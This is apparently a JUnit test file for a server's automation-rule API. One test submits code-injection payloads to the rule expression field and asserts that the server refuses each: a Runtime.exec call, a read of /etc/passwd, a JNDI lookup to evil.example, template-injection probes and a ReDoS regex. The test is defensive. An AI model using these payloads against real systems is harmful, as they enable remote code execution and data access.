package io.parley.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class RuleRoutesTest extends RouteTest {
  private static final String VIP =
      "{'name':'Important','on':['lead.status_changed'],"
          + "'when':{'field':'lead.price','op':'gt','value':1000},'then':[{'type':'addTag','tag':'vip'},{'type':'addNote','text':'{{lead.name}}"
          + " is big'}],'priority':10,'cooldown':'PT1H','oncePer':'lead'}";

  private String rules;

  @BeforeEach
  void agent() {
    rules = client.post("/api/agents", "{'name':'Sofia'}").location() + "/rules";
  }

  @Test
  void a_rule_is_created_read_listed_changed_and_removed() {
    var made = client.post(rules, VIP);

    assertThat(made.status()).isEqualTo(201);
    assertThat(made.location()).isEqualTo(rules + "/" + made.id());
    assertThat(made.header("ETag")).isEqualTo("\"1\"");
    var read = client.get(made.location());
    assertThat(read.json()).isEqualTo(made.json());
    assertThat(fields(read.json()))
        .containsEntry("enabled", true)
        .containsEntry("priority", 10)
        .containsEntry("cooldown", "PT1H")
        .containsEntry("oncePer", "lead")
        .containsEntry("stopProcessing", false)
        .containsEntry("on", List.of("lead.status_changed"));
    assertThat(client.get(rules).items()).containsExactly(read.json());

    var changed = client.patch(made.location(), "{'enabled':false,'oncePer':null}");
    assertThat(changed.status()).isEqualTo(200);
    assertThat(changed.header("ETag")).isEqualTo("\"2\"");
    assertThat(fields(changed.json()))
        .containsEntry("enabled", false)
        .containsEntry("oncePer", null)
        .containsEntry("name", "Important");
    assertThat(client.patch(made.location(), "{'enabled':true}", "If-Match", "\"1\"").status())
        .isEqualTo(412);

    assertThat(client.delete(made.location()).status()).isEqualTo(204);
    assertThat(client.get(made.location()).status()).isEqualTo(404);
    assertThat(client.delete(made.location()).status()).isEqualTo(404);
    assertThat(client.get(rules).items()).isEmpty();
  }

  @Test
  void a_condition_is_merged_with_one_of_its_form_and_replaced_by_one_of_another() {
    String path = client.post(rules, VIP).location();

    var merged = client.patch(path, "{'when':{'value':2000}}");
    assertThat(merged.json().get("when"))
        .isEqualTo(Map.of("field", "lead.price", "op", "gt", "value", 2000));
    var replaced = client.patch(path, "{'when':{'expr':'lead.price > 5'}}");
    assertThat(replaced.json().get("when")).isEqualTo(Map.of("expr", "lead.price > 5"));
    assertThat(client.patch(path, "{'when':{'all':[]}}").json().get("when"))
        .isEqualTo(Map.of("all", List.of()));
  }

  @Test
  void what_could_not_run_is_refused_at_its_place() {
    refused("'when':{'field':'lead.prise','op':'gt','value':1}", "when.field", "unknown field");
    refused("'when':{'field':'lead.price','op':'like','value':1}", "when.op", "must be one of");
    refused(
        "'when':{'all':[{'field':'lead.price','op':'gt','value':'x'}]}",
        "when.all[0].value",
        "number");
    refused("'when':{'expr':'lead.prise > 1'}", "when.expr", "line 1, column 5: unknown field");
    refused("'when':{'expr':'lead.price > \\\"x\\\"'}", "when.expr", "line 1, column 14");
    refused("'when':{'expr':'lead.name'}", "when.expr", "expected type");
    refused("'on':['lead.stauts_changed']", "on", "there is no event 'lead.stauts_changed'");
    refused("'then':[{'type':'makeCoffee'}]", "then[0].type", "is no action");
    refused("'then':[{'type':'addTag'}]", "then[0].tag", "missing");
    refused("'then':[{'type':'addTag','tag':'{{lead.prise}}'}]", "then[0].tag", "no fact");
    refused("'cooldown':'soon'", "cooldown", "ISO-8601");
    refused("'oncePer':'week'", "oncePer", "must be one of");
    refused("'colour':'red'", "colour", "unknown");
    assertThat(client.post(rules, "{'name':").status()).isEqualTo(400);
    assertThat(client.post(rules, "").status()).isEqualTo(400);
    assertThat(client.get(rules).items()).isEmpty();
  }

  private void refused(String field, String place, String message) {
    String name = field.substring(0, field.indexOf(':'));
    String rest =
        List.of("'on':['lead.created']", "'then':[{'type':'addTag','tag':'x'}]").stream()
            .filter(part -> !part.startsWith(name + ":"))
            .reduce("", (all, part) -> all + "," + part);
    var answer = client.post(rules, "{'name':'n'" + rest + "," + field + "}");

    assertThat(answer.status()).as(field).isEqualTo(422);
    assertThat(answer.body()).as(field).contains(message);
    assertThat(answer.wrongField()).as(field).isEqualTo(place);
  }

  @Test
  void code_in_a_rule_is_refused_with_its_position_or_stays_text() {
    for (String code :
        List.of(
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "new java.io.File('/etc/passwd').exists()",
            "lead.getClass().forName('java.lang.Runtime')",
            "${jndi:ldap://evil.example/a}",
            "#{7*7}",
            "<#assign x=7>",
            "*{T(java.lang.Runtime)}",
            "lead.name.matches('((a{999}){999}){999}')")) {
      long started = System.nanoTime();
      var answer =
          client.post(
              rules,
              "{'name':'n','on':['lead.created'],'when':{'expr':"
                  + io.parley.core.json.Json.write(code).replace("'", "\\u0027")
                  + "},'then':[{'type':'handoff'}]}");
      assertThat(answer.status()).as(code).isEqualTo(422);
      assertThat(answer.wrongField()).as(code).isEqualTo("when.expr");
      assertThat(answer.body()).as(code).contains("line 1, column");
      assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(20));
    }
    String nodes = "true" + " && true".repeat(10_000);
    assertThat(
            client
                .post(
                    rules,
                    "{'name':'n','on':['lead.created'],'when':{'expr':'"
                        + nodes
                        + "'},'then':[{'type':'handoff'}]}")
                .wrongField())
        .isEqualTo("when.expr");
    String leaf = "{'field':'lead.price','op':'gt','value':1}";
    assertThat(
            client
                .post(
                    rules,
                    "{'name':'n','on':['lead.created'],'when':{'all':["
                        + (leaf + ",").repeat(9_999)
                        + leaf
                        + "]},'then':[{'type':'handoff'}]}")
                .body())
        .contains("number at most 500");

    var printed =
        client.post(
            rules,
            "{'name':'${7*7} #{7*7} {{7*7}}','on':['lead.created'],"
                + "'then':[{'type':'addNote','text':'${7*7} <#assign x=7> *{T(java)}'}]}");
    assertThat(printed.text("name")).isEqualTo("${7*7} #{7*7} {{7*7}}");
    var dry =
        client.post(printed.location() + "/test", "{'event':{'type':'lead.created','facts':{}}}");
    assertThat(dry.body()).contains("${7*7} <#assign x=7> *{T(java)}").doesNotContain("49");
  }

  @Test
  void a_dry_run_shows_which_conditions_held_and_what_would_be_done() {
    String path = client.post(rules, VIP).location();

    var dry =
        client.post(
            path + "/test",
            "{'event':{'type':'lead.status_changed','facts':{'lead.id':7,'lead.name':'Ana',"
                + "'lead.price':1500}}}");

    assertThat(dry.status()).isEqualTo(200);
    assertThat(fields(dry.json())).containsEntry("matched", true).containsEntry("fires", true);
    assertThat(dry.body()).contains("lead.price is 1500").contains("Ana is big");
    assertThat(client.get("/api/effects").items()).isEmpty();

    var cheap =
        client.post(
            path + "/test",
            "{'event':{'type':'lead.status_changed','facts':{'lead.id':7,'lead.price':5}}}");
    assertThat(fields(cheap.json())).containsEntry("matched", false).containsEntry("fires", false);
    assertThat(cheap.text("why")).isEqualTo("the condition does not hold");
    var other =
        client.post(path + "/test", "{'event':{'type':'lead.created','facts':{'lead.price':5}}}");
    assertThat(other.text("why")).isEqualTo("it does not listen to lead.created");
    assertThat(client.post(path + "/test", "{}").status()).isEqualTo(422);
    assertThat(client.post(path + "/test", "{'eventId':'gone'}").status()).isEqualTo(404);
  }

  @Test
  void rules_are_kept_apart_by_role_agent_and_tenant() {
    var made = client.post(rules, VIP);
    Client viewer = withRole("viewer");

    assertThat(viewer.get(made.location()).status()).isEqualTo(200);
    assertThat(viewer.post(rules, VIP).status()).isEqualTo(403);
    assertThat(viewer.patch(made.location(), "{}").status()).isEqualTo(403);
    assertThat(viewer.delete(made.location()).status()).isEqualTo(403);
    String other = client.post("/api/agents", "{'name':'Luz'}").location() + "/rules";
    assertThat(client.get(other + "/" + made.id()).status()).isEqualTo(404);
    assertThat(client.get(other).items()).isEmpty();
    Client stranger = otherTenant();
    assertThat(stranger.get(made.location()).status()).isEqualTo(404);
    assertThat(stranger.get(rules).status()).isEqualTo(404);
    assertThat(stranger.get(rules + "/executions").status()).isEqualTo(404);
  }

  @Test
  void lists_and_replays_refuse_what_is_out_of_bounds() {
    assertThat(client.get(rules + "?limit=0").wrongField()).isEqualTo("limit");
    assertThat(client.get(rules + "/executions?fired=maybe").wrongField()).isEqualTo("fired");
    assertThat(client.post(rules + "/replay", "{'from':'2026-01-01T00:00:00Z'}").wrongField())
        .isEqualTo("rules");
    assertThat(
            client
                .post(
                    rules + "/replay",
                    "{'rules':[{'name':'x','on':['lead.created'],'then':[]}],"
                        + "'from':'2026-01-01T00:00:00Z'}")
                .wrongField())
        .isEqualTo("rules[0].then");
    assertThat(
            client
                .post(
                    rules + "/replay",
                    "{'rules':[],'from':'2026-01-02T00:00:00Z','to':'2026-01-01T00:00:00Z'}")
                .wrongField())
        .isEqualTo("from");
  }

  @Test
  void the_same_request_with_a_key_makes_one_rule() {
    var first = client.post(rules, VIP, "Idempotency-Key", "k-1");
    var second = client.post(rules, VIP, "Idempotency-Key", "k-1");

    assertThat(second.json()).isEqualTo(first.json());
    assertThat(client.get(rules).items()).hasSize(1);
  }

  private static Map<String, Object> fields(Map<String, ?> json) {
    return new LinkedHashMap<>(json);
  }
}
